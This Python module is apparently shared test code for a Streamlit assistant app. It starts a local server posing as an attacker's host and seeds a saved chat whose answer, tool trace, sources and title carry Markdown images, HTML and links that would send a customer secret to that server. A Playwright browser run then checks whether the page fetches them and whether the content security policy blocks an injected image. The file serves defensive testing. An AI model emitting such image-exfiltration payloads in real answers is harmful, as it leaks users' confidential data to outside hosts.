"""The hostile-Markdown attack on the real app, shared by tests/test_ui_security_browser.py and
bench/security_check.py: a local HTTP server that records every request (the attacker's host; only
127.0.0.1 is reachable here), a saved conversation whose answer, thinking, tool trace, sources and title
carry images, links and HTML pointing at it, the app served by `streamlit run`, and Debian's Chromium
(through playwright) logged in, opening every expander."""

from __future__ import annotations

import http.server
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

from assistant.app import conversations
from assistant.app.users import add_user

ROOT = Path(__file__).resolve().parent.parent
PASSWORD = "Quiet-Harbour-Lantern-2026"
SECRET = "CUS-1001-fraud-watchlist"


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@contextmanager
def leak_server() -> Iterator[tuple[str, list[str]]]:
    """(base URL, the paths requested so far) of a server that answers every request with a 1x1 PNG."""
    seen: list[str] = []
    png = bytes.fromhex("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c"
                        "6360000002000154a24f5d0000000049454e44ae426082")

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 (http.server's name)
            seen.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.end_headers()
            self.wfile.write(png)

        do_POST = do_GET  # noqa: N815

        def log_message(self, *args: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", seen
    finally:
        server.shutdown()


def hostile_payload(leak: str) -> dict[str, Any]:
    """An answer as a saved turn stores it, with a fetch attempt in every text the view draws."""
    def img(tag: str) -> str:
        return f"![x]({leak}/{tag}.png?leak={SECRET})"

    return {
        "question": "客户情况？",
        "answer": (f"客户 {SECRET} 的情况如下 [1]。{img('answer')} <img src=\"{leak}/html.png\"> "
                   f"[详情]({leak}/link) <{leak}/autolink> {leak}/bare ![ref][r]\n\n[r]: {leak}/ref.png"),
        "thinking": f"先查资料。{img('thinking')}",
        "tool_calls": [{"name": f"lookup{img('toolname')}", "arguments": {"q": img("toolargs")},
                        "result": {"note": img("toolresult")}, "error": None, "denied": False, "duration_s": 0.01}],
        "sources": [{"n": 1, "source": f"report{img('source')}.md", "page": None,
                     "clause": f"第一条 {img('clause')}", "text": f"段落 {img('passage')} <img src=\"{leak}/p.png\">",
                     "chunk_id": "0123456789ab:deadbeef:0000", "doc_id": "0123456789ab"}],
        "adapter": f"claims@v1{img('adapter')}", "latency_s": 1.0, "audit_id": None, "kb": "default",
    }


def seed(home: Path, user: str, leak: str) -> None:
    """A user whose saved conversation (title included) carries the hostile answer."""
    db = home / "app.db"
    add_user(db, user, PASSWORD, "claims", "claims")
    conv = conversations.create(db, user, f"客户 ![t]({leak}/title.png?leak={SECRET})")
    payload = hostile_payload(leak)
    conversations.add_turn(db, conv.id, user, f"问题 ![q]({leak}/question.png)", payload["answer"], payload)


@contextmanager
def app_server(home: Path, log: Path, extra_env: dict[str, str] | None = None) -> Iterator[str]:
    """`streamlit run ui/app.py` on 127.0.0.1 with this data home; yields its URL once healthy."""
    port = free_port()
    env = {k: v for k, v in os.environ.items() if not k.startswith("ASSISTANT_")} | {
        "ASSISTANT_HOME": str(home), **(extra_env or {})}
    with open(log, "wb") as out:
        proc = subprocess.Popen(
            [sys.executable, "-m", "streamlit", "run", str(ROOT / "ui" / "app.py"), "--server.headless", "true",
             "--server.port", str(port), "--server.address", "127.0.0.1", "--browser.gatherUsageStats", "false",
             "--server.fileWatcherType", "none"], env=env, stdout=out, stderr=subprocess.STDOUT, cwd=str(ROOT))
        url = f"http://127.0.0.1:{port}"
        try:
            deadline = time.time() + 90
            while True:
                try:
                    if urllib.request.urlopen(f"{url}/_stcore/health", timeout=2).read() == b"ok":
                        break
                except OSError:
                    pass
                if proc.poll() is not None or time.time() > deadline:
                    raise RuntimeError(f"the app did not start: {log.read_text(errors='replace')[-2000:]}")
                time.sleep(0.5)
            yield url
        finally:
            proc.terminate()
            try:
                proc.wait(timeout=20)
            except subprocess.TimeoutExpired:  # a loaded machine can be slow to shut the server down
                proc.kill()
                proc.wait()


def chromium() -> str:
    path = shutil.which("chromium") or shutil.which("chromium-browser")
    if not path:
        raise RuntimeError("Debian's chromium is needed: `apt-get install chromium` (scripts/test.sh does it)")
    return path


def view_hostile_answer(url: str, user: str, leak: str, screenshot: Path | None = None) -> dict[str, Any]:
    """Log in, let the saved hostile turn render with every expander open, and report what the page holds:
    images and links pointing at the leak host, whether the escaped text is readable, the CSP in force and
    whether it blocks an image added by script (the second line of defence)."""
    from playwright.sync_api import expect, sync_playwright

    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=chromium(),
                                     args=["--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"])
        try:
            page = browser.new_page(viewport={"width": 1280, "height": 1400})
            page.set_default_timeout(60_000)
            page.goto(url)
            page.get_by_role("textbox", name="User name").fill(user)
            page.get_by_role("textbox", name="Password").fill(PASSWORD)
            page.get_by_role("button", name="Log in").click()
            answer = page.get_by_test_id("stChatMessage").filter(has_text=SECRET)
            expect(answer).to_have_count(1, timeout=60_000)
            for summary in page.locator("[data-testid='stExpander'] summary").all():
                summary.click()
            page.wait_for_timeout(2500)  # time for any image to be requested
            stats = page.evaluate("""(leak) => ({
              imgs: [...document.querySelectorAll('img')].map(i => i.src).filter(s => s.startsWith(leak)),
              links: [...document.querySelectorAll('a')].map(a => a.href).filter(h => h.startsWith(leak)),
              html: document.querySelectorAll('[data-testid="stChatMessage"] img[src*="html.png"]').length,
              csp: document.head.querySelector('meta[http-equiv="Content-Security-Policy"]')?.content || null,
              text: document.body.innerText,
            })""", leak)
            if screenshot is not None:
                screenshot.parent.mkdir(parents=True, exist_ok=True)
                page.screenshot(path=str(screenshot), full_page=True)
            # the CSP alone: an image that script adds (as HTML that slipped through would) must not load
            page.evaluate("(u) => { const i = new Image(); i.src = u; document.body.appendChild(i); }",
                          f"{leak}/csp-probe.png")
            page.wait_for_timeout(1500)
            stats["readable"] = f"answer.png?leak={SECRET}" in stats.pop("text")
            return stats
        finally:
            browser.close()
